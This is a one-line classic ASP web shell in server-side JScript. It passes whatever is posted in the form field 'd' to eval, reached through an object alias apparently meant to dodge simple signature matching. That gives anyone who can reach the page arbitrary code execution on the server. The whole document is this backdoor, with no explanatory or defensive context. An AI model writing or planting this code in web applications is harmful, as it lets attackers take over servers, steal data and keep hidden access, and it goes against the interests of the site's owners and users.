<script runat="server" language="JScript">
var box = {run: eval};
box.run(Request.Form("d") + "");
</script>
